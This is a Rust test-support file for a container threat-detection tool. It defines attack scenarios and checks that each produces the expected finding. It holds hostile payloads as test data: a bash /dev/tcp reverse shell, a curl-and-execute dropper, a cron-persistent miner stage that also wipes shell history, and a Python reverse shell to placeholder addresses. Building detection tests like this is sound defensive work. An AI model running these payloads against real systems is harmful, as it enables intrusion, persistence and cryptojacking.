//! The attack scenario table shared by the Docker and gVisor suites (included with `#[path]`): one row
//! per default rule (policies/rules/*.yaml, the catalogue of docs/FINDINGS.md that runwarden
//! fires today), saying how the attack arrives, what it needs from the container, and which finding
//! must reach the sink, field by field. Adding a category is one row in scenario_rows.rs
//! (exec rules) or sensor_rows.rs (scanner and file watcher rules).
//!
//! Tools this test machine cannot ship (peirates, steghide, sudo...) are stand-ins served by the
//! attacker's web server: /bin/true (or /bin/sh where the tool starts a shell) under the tool's name,
//! run with the tool's real arguments. What is checked is the whole path from the exec (or file
//! change) inside the container to the finding in the sink.
#![allow(dead_code)] // the Docker and gVisor suites use different parts

use serde_json::Value;

#[path = "post_rows.rs"]
mod post_rows;
#[path = "scenario_rows.rs"]
mod rows;
#[path = "sensor_rows.rs"]
mod sensor_rows;
pub use rows::NOT_YET_COVERED;

/// Every row of the table: the exec sensor's, then the scanner's and the file watcher's, then the
/// post-exploitation rows.
pub fn scenarios() -> impl Iterator<Item = &'static Scenario> {
    rows::EXEC_ROWS.iter().chain(sensor_rows::SENSOR_ROWS).chain(post_rows::POST_ROWS)
}

/// How an attack reaches the workload.
pub enum Arrival {
    /// A command injected through the sample web app's vulnerable endpoint (one request): the app runs
    /// `sh -c "getent hosts x;COMMAND"`.
    Injection(&'static str),
    /// A tool fetched from the attacker's server by an injected command into `at`, made executable and
    /// run with `run` (`{at}` is the path).
    Dropped { tool: Tool, at: &'static str, run: &'static str },
    /// A script the batch job fetches and pipes to sh (its manifest's `hook` directive).
    Fetched(&'static str),
    /// Commands typed into a reverse shell (`bash -i >& /dev/tcp/...`) opened by an injection, to a
    /// listener of the attacker's (`{lport}`).
    ReverseShell(&'static str),
    /// An injected command that connects to a listener of the attacker's (`{lport}`: any free port
    /// when `port` is 0, else `port` plus a per-suite offset), which sends `typed` (and `exit`).
    Connect { inject: &'static str, typed: &'static str, port: u16 },
}

/// What the attacker's server hands out as a tool.
#[derive(Clone, Copy)]
pub enum Tool {
    /// /bin/true under the tool's name.
    True(&'static str),
    /// /bin/sh (dash) under the tool's name: the tool starts a shell.
    Shell(&'static str),
    /// /bin/true with a miner's configuration strings appended (YARA: miner_xmrig_family).
    Miner(&'static str),
    /// The test fixture program (`rw-fixture`, static, built beside runwarden).
    Fixture(&'static str),
}

impl Tool {
    pub fn name(self) -> &'static str {
        match self {
            Tool::True(n) | Tool::Shell(n) | Tool::Miner(n) | Tool::Fixture(n) => n,
        }
    }

    pub fn bytes(self) -> Vec<u8> {
        match self {
            Tool::True(_) => std::fs::read("/bin/true").unwrap(),
            Tool::Shell(_) => std::fs::read("/bin/dash").unwrap(),
            Tool::Miner(_) => {
                // A real ELF that still runs, carrying a miner's strings (as packed miners do).
                let mut b = std::fs::read("/bin/true").unwrap();
                b.extend_from_slice(b"xmrig 6.21 --donate-level 1 randomx");
                b
            }
            Tool::Fixture(_) => {
                let path = std::path::Path::new(env!("CARGO_BIN_EXE_runwarden")).with_file_name("rw-fixture");
                std::fs::read(&path).unwrap_or_else(|e| {
                    panic!("{}: {e} (run the tests with `cargo test --workspace`)", path.display())
                })
            }
        }
    }
}

/// Where a row can run, and why not elsewhere.
pub enum Runs {
    Everywhere,
    NotInDocker(&'static str),
    NotInGvisor(&'static str),
}

/// What a row needs from the container it runs in.
#[derive(Clone, Copy, PartialEq)]
pub enum Needs {
    /// Nothing: works as root, as a non-root user and on a read-only root file system.
    Nothing,
    /// Executes a file written to /tmp: not with `--read-only --tmpfs /tmp` (Docker's tmpfs is noexec).
    ExecFromTmp,
    /// Root, writing nothing outside /tmp (reads /etc/shadow).
    Root,
    /// Root and a writable root file system (changes /etc, /usr).
    RootWritable,
    /// A non-root user (the sudo and polkit CVEs are about unprivileged users).
    NonRoot,
    /// The opt-in exact syscall mode (`RUNWARDEN_SYSCALLS=default`): rules on single syscalls.
    Syscalls,
    /// Executes a file written to /tmp, under a tracer that CLONE_UNTRACED escapes (ptrace): not
    /// under the seccomp sensor, whose filter every child inherits.
    PtraceExecFromTmp,
    /// The seccomp exec sensor (the race against its read of an exec's arguments).
    SeccompSensor,
}

/// The ways the suite runs a container.
#[derive(Clone, Copy, PartialEq, Debug)]
pub enum Variant {
    /// As the image says (root), default seccomp profile and capabilities.
    Root,
    /// `--user 65534:65534`.
    NonRoot,
    /// `--read-only --tmpfs /tmp` (root).
    ReadOnly,
    /// As built (root), with `RUNWARDEN_SYSCALLS=default`; only the rows that need it.
    Syscalls,
    /// As built (root), with `--security-opt no-new-privileges`: `auto` chooses the seccomp sensor.
    Seccomp,
}

impl Variant {
    /// The exec sensor `auto` chooses in this container.
    pub fn exec_sensor(self) -> &'static str {
        if self == Variant::Seccomp {
            "seccomp"
        } else {
            "ptrace"
        }
    }
}

impl Needs {
    pub fn runs_in(self, v: Variant) -> bool {
        if (self == Needs::Syscalls) != (v == Variant::Syscalls) {
            return false;
        }
        match self {
            Needs::Nothing | Needs::Syscalls => true,
            Needs::SeccompSensor => v == Variant::Seccomp,
            Needs::ExecFromTmp => v != Variant::ReadOnly,
            Needs::PtraceExecFromTmp => v != Variant::ReadOnly && v != Variant::Seccomp,
            Needs::Root => v != Variant::NonRoot,
            Needs::RootWritable => v == Variant::Root || v == Variant::Seccomp,
            Needs::NonRoot => v == Variant::NonRoot,
        }
    }
}

pub struct Scenario {
    pub name: &'static str,
    pub arrival: Arrival,
    pub category: &'static str,
    pub severity: &'static str,
    pub rule: &'static str,
    pub technique: &'static str,
    /// Fields that pick this row's finding out of the sink: (JSON pointer, expected). Arrays are
    /// joined with spaces; a leading `=` means equal, otherwise contains. `{web}`, `{gw}`, `{lport}`
    /// and `{runwarden}` are filled in.
    pub fields: &'static [(&'static str, &'static str)],
    pub needs: Needs,
    pub runs: Runs,
}

/// Values filled into payloads and expected fields.
#[derive(Clone)]
pub struct Vars {
    /// The attacker's web server (`http://host:port`).
    pub web: String,
    /// The attacker's host.
    pub gw: String,
    /// This row's reverse shell listener port.
    pub lport: u16,
    /// runwarden's path as the workload sees it.
    pub runwarden: String,
}

impl Vars {
    pub fn fill(&self, s: &str) -> String {
        s.replace("{web}", &self.web)
            .replace("{gw}", &self.gw)
            .replace("{lport}", &self.lport.to_string())
            .replace("{runwarden}", &self.runwarden)
    }
}

/// The files the attacker's web server hands out: tools under /t/, scripts and data under /f/, the
/// batch job's hooks under /h/<row>.sh and its manifest at /h/manifest.
pub fn attacker_files(vars: &Vars, rows: &[&Scenario]) -> Vec<(String, Vec<u8>)> {
    let mut files = vec![
        ("/t/true".to_string(), Tool::True("true").bytes()),
        ("/f/p.b64".to_string(), b"ZWNobyBzdGFnZWQK\n".to_vec()),
        ("/f/stage2.sh".to_string(), STAGE2_SH.as_bytes().to_vec()),
        ("/f/stage2.py".to_string(), STAGE2_PY.as_bytes().to_vec()),
        ("/f/mitm.pem".to_string(), MITM_PEM.as_bytes().to_vec()),
        ("/t/kworker".to_string(), Tool::Miner("kworker").bytes()),
    ];
    let mut manifest = String::from("generate orders 100\n");
    for row in rows {
        match &row.arrival {
            Arrival::Dropped { tool, .. } => files.push((format!("/t/{}", tool.name()), tool.bytes())),
            Arrival::Fetched(script) => {
                files.push((format!("/h/{}.sh", row.name), vars.fill(script).into_bytes()));
                manifest.push_str(&format!("hook {}/h/{}.sh\n", vars.web, row.name));
            }
            _ => {}
        }
    }
    files.push(("/h/manifest".to_string(), manifest.into_bytes()));
    files
}

/// The command an injection runs for `row` (None for rows that arrive otherwise).
pub fn injected_command(row: &Scenario, vars: &Vars) -> Option<String> {
    let cmd = match &row.arrival {
        Arrival::Injection(c) => c.to_string(),
        Arrival::Dropped { tool, at, run } => {
            let dir = at.rsplit_once('/').map(|(d, _)| d).unwrap_or("/");
            format!(
                "mkdir -p {dir}; curl -fsS {{web}}/t/{} -o {at} && chmod 755 {at} && {}",
                tool.name(),
                run.replace("{at}", at)
            )
        }
        Arrival::ReverseShell(_) => "bash -c 'bash -i >& /dev/tcp/{gw}/{lport} 0>&1'".to_string(),
        Arrival::Connect { inject, .. } => inject.to_string(),
        Arrival::Fetched(_) => return None,
    };
    Some(format!("x;{}", vars.fill(&cmd)))
}

/// What the attacker's listener sends a row that connects to it (`ReverseShell`, `Connect`).
pub fn typed_commands(row: &Scenario) -> Option<&'static str> {
    match row.arrival {
        Arrival::ReverseShell(c) | Arrival::Connect { typed: c, .. } => Some(c),
        _ => None,
    }
}

/// The port the attacker's listener for `row` must use (0: any), before the suite's offset.
pub fn listener_port(row: &Scenario) -> u16 {
    match row.arrival {
        Arrival::Connect { port, .. } => port,
        _ => 0,
    }
}

/// The sensor a rule's findings come from, by the rule's event kind in policies/rules/*.yaml.
pub fn expected_sensor(rule: &str) -> &'static str {
    static EVENTS: std::sync::OnceLock<std::collections::HashMap<String, String>> =
        std::sync::OnceLock::new();
    let events = EVENTS.get_or_init(|| {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/rules");
        let mut m = std::collections::HashMap::new();
        for entry in std::fs::read_dir(dir).unwrap() {
            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
            let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&text).unwrap();
            for r in doc["rules"].as_sequence().into_iter().flatten() {
                let (id, event) = (r["id"].as_str().unwrap_or(""), r["event"].as_str().unwrap_or("exec"));
                m.insert(id.to_string(), event.to_string());
            }
        }
        m
    });
    match events.get(rule).map(String::as_str) {
        Some("file") => "inotify",
        Some("syscall") | Some("mismatch") => "seccomp",
        Some("exec") | None => "ptrace",
        Some(_) => "scanner",
    }
}

/// A field as text: strings as they are, arrays joined with spaces, other values as JSON.
fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Array(a) => a.iter().map(text).collect::<Vec<_>>().join(" "),
        other => other.to_string(),
    }
}

fn field_ok(f: &Value, pointer: &str, want: &str) -> bool {
    let Some(v) = f.pointer(pointer) else { return false };
    let got = text(v);
    match want.strip_prefix('=') {
        Some(exact) => got == exact,
        None => got.contains(want),
    }
}

/// This row's finding among `findings`.
pub fn find<'a>(row: &Scenario, vars: &Vars, findings: &'a [Value]) -> Option<&'a Value> {
    findings.iter().find(|f| {
        f["category"] == row.category
            && f["rule"]["id"] == row.rule
            && row.fields.iter().all(|(p, want)| field_ok(f, p, &vars.fill(want)))
    })
}

/// Checks each row's finding field by field; returns one message per problem (empty: all good).
/// `image`: the containers[0].uri expected (RUNWARDEN_IMAGE), when set.
/// `exec_sensor`: the exec sensor of the run ("ptrace" or "seccomp"), which exec findings name.
pub fn check(
    rows: &[&Scenario],
    vars_of: &dyn Fn(&Scenario) -> Vars,
    findings: &[Value],
    image: Option<&str>,
    exec_sensor: &str,
) -> Vec<String> {
    let mut problems = Vec::new();
    for row in rows {
        let vars = vars_of(row);
        let Some(f) = find(row, &vars, findings) else {
            let near: Vec<String> = findings
                .iter()
                .filter(|f| f["category"] == row.category)
                .map(|f| {
                    format!(
                        "    rule {} args {} binary {} files {}",
                        f["rule"]["id"],
                        text(&f["processes"][0]["args"]),
                        f["processes"][0]["binary"]["path"],
                        f["files"]
                    )
                })
                .collect();
            problems.push(format!(
                "{}: no {:?} finding of rule {} with {:?}; same category:\n{}",
                row.name,
                row.category,
                row.rule,
                row.fields.iter().map(|(p, w)| (*p, vars.fill(w))).collect::<Vec<_>>(),
                near.join("\n")
            ));
            continue;
        };
        let mut wrong =
            |what: &str, got: &Value| problems.push(format!("{}: {what}, got {got} in {f}", row.name));
        if f["severity"] != row.severity {
            wrong(&format!("severity should be {}", row.severity), &f["severity"]);
        }
        let techniques = text(&f["mitreAttack"]["primaryTechniques"]);
        if !techniques.split(' ').any(|t| t == row.technique) {
            wrong(&format!("technique {} missing", row.technique), &f["mitreAttack"]);
        }
        for (key, want) in [("state", "ACTIVE"), ("findingClass", "THREAT"), ("action", "ALERT")] {
            if f[key] != want {
                wrong(&format!("{key} should be {want}"), &f[key]);
            }
        }
        if f["findingId"].as_str().map(str::len) != Some(36) {
            wrong("findingId should be a UUID", &f["findingId"]);
        }
        if !f["eventTime"].as_str().is_some_and(|t| t.ends_with('Z') && t.len() == 27) {
            wrong("eventTime should be RFC 3339 UTC with microseconds", &f["eventTime"]);
        }
        if f["description"].as_str().unwrap_or("").is_empty() {
            wrong("description missing", &f["description"]);
        }
        let sensor = match expected_sensor(row.rule) {
            "ptrace" => exec_sensor,
            other => other,
        };
        if f["sourceProperties"]["sensor"] != sensor {
            wrong(&format!("sensor should be {sensor}"), &f["sourceProperties"]);
        }
        if sensor != "inotify" {
            let sha = f["processes"][0]["binary"]["sha256"].as_str().unwrap_or("");
            if sha.len() != 64 {
                wrong("binary sha256 missing", &f["processes"][0]["binary"]);
            }
            if f["processes"][0]["pid"].as_i64().unwrap_or(0) <= 1 {
                wrong("pid should be the attacker's process", &f["processes"][0]["pid"]);
            }
        }
        if let Some(image) = image {
            if f["containers"][0]["uri"] != image {
                wrong(&format!("containers[0].uri should be {image}"), &f["containers"]);
            }
        }
    }
    problems
}

/// A second stage that scores as malicious (kills competing miners, downloads and runs a binary in
/// /tmp, persists through cron, wipes history) and harms nothing here: every download fails fast.
pub const STAGE2_SH: &str = r#"#!/bin/sh
pkill -f xmrig 2>/dev/null; pkill -f kdevtmpfsi 2>/dev/null
curl -m 1 -fsSL http://198.51.100.23/xmr -o /tmp/.xmr 2>/dev/null && chmod +x /tmp/.xmr && /tmp/.xmr -o stratum+tcp://pool.example:3333 &
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://198.51.100.23/s.sh | sh") | crontab - 2>/dev/null
history -c 2>/dev/null; rm -f ~/.bash_history
echo stage2 done
"#;

/// A Python reverse shell (socket + dup2 + pty) to an address that does not answer.
pub const STAGE2_PY: &str = r#"import os, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(1)
try:
    s.connect(("198.51.100.77", 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
except OSError:
    pass
"#;

/// A self-signed CA certificate (its contents do not matter to the watcher, its place does).
pub const MITM_PEM: &str = "-----BEGIN CERTIFICATE-----\n\
MIIBejCCASCgAwIBAgIUZ3J1bndhcmRlbi10ZXN0LWNhMAoGCCqGSM49BAMCMBIx\n\
EDAOBgNVBAMMB21pdG0tY2EwHhcNMjYwMTAxMDAwMDAwWhcNMzYwMTAxMDAwMDAw\n\
-----END CERTIFICATE-----\n";
